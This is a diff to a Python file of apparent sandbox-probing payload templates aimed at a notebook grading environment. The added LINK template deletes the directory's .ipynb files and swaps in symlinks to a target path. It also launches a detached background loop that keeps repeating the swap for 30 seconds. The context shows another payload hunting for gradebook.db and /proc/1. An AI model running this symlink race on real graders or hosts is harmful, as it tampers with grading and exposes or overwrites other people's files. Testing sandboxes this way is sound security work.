@@ -103,6 +103,28 @@ for _path in [*_pathlib.Path("/").glob("*/gradebook.db"), _pathlib.Path("/proc/1
         print(_path, type(error).__name__)
 '''
 
+LINK = '''
+import os as _os, pathlib as _pathlib, subprocess as _sp, sys as _sys
+_target = {target!r}
+_looper = f"""
+import os, pathlib, time
+end = time.time() + 30
+while time.time() < end:
+    for nb in pathlib.Path.cwd().glob("*.ipynb"):
+        if not nb.is_symlink():
+            try:
+                nb.unlink(); os.symlink({{_target!r}}, nb)
+            except OSError:
+                pass
+    time.sleep(0.01)
+"""
+_sp.Popen([_sys.executable, "-c", _looper], start_new_session=True, stdin=_sp.DEVNULL,
+          stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
+for _nb in _pathlib.Path.cwd().glob("*.ipynb"):
+    _nb.unlink()
+    _os.symlink(_target, _nb)
+'''
+
 MEMORY = '''
 import resource as _resource
 _soft, _hard = _resource.getrlimit(_resource.RLIMIT_AS)
